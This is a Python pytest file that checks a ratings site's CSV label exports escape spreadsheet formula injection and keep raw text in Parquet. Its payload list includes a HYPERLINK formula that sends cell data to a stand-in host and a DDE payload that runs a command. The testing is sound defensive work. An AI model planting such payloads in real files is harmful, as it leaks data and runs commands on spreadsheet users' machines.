"""Spreadsheet formula injection in label exports (issue 12, defect 9)."""
import csv
import io

import pandas as pd
import pytest

from ratings_site.catalog.models import Image
from ratings_site.jobs.models import Job
from ratings_site.labels.csv_safety import cell_escape
from ratings_site.labels.services import export_bytes, export_job_start, labels_compute
from tests.platform.factories import make_study_with_images
from tests.platform.test_labels import finish

PAYLOADS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,2)", "\t=1", "\r=1"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_each_formula_prefix_is_escaped(payload):
    assert cell_escape(payload) == "'" + payload


@pytest.mark.parametrize("value", ["alice", "subject 12", "", "a=b", 3, -1.5, None])
def test_harmless_values_are_unchanged(value):
    assert cell_escape(value) == value


@pytest.mark.django_db
def test_manifest_subjects_with_formulas_export_as_text(django_capture_on_commit_callbacks):
    study = make_study_with_images(n_images=len(PAYLOADS), n_batches=1, raters=3)
    for image, payload in zip(Image.objects.order_by("pk"), PAYLOADS):
        Image.objects.filter(pk=image.pk).update(subject=payload)  # as a manifest's subject column sets it
    for who in "abc":
        finish(study, who, [5] * len(PAYLOADS))
    labels_compute(study=study)
    with django_capture_on_commit_callbacks(execute=True):
        job = export_job_start(study=study, fmt="csv")
    job.refresh_from_db()
    assert job.status == Job.Status.SUCCEEDED, job.error
    rows = list(csv.DictReader(io.StringIO(job.artifact.read().decode(), newline="")))
    subjects = sorted(r["subject"] for r in rows)
    assert subjects == sorted("'" + p for p in PAYLOADS)
    assert not any(r[k].startswith(("=", "+", "@", "\t", "\r")) for r in rows for k in r if k != "mean")


def test_a_carriage_return_in_a_subject_cannot_split_a_row():
    frame = pd.DataFrame({"subject": ["a\rb", "c\nd"], "n": [1, 2]})
    back = list(csv.DictReader(io.StringIO(export_bytes(frame, "csv").decode(), newline="")))
    assert [r["subject"] for r in back] == ["a\rb", "c\nd"] and [r["n"] for r in back] == ["1", "2"]


@pytest.mark.django_db
def test_numbers_stay_numbers_and_parquet_keeps_the_raw_text():
    frame = pd.DataFrame({"subject": ["=1+1"], "mean": [-1.5], "n": [3]})
    text = export_bytes(frame, "csv").decode()
    assert text.split("\r\n")[1] == "'=1+1,-1.5,3"
    assert pd.read_parquet(io.BytesIO(export_bytes(frame, "parquet")))["subject"].tolist() == ["=1+1"]
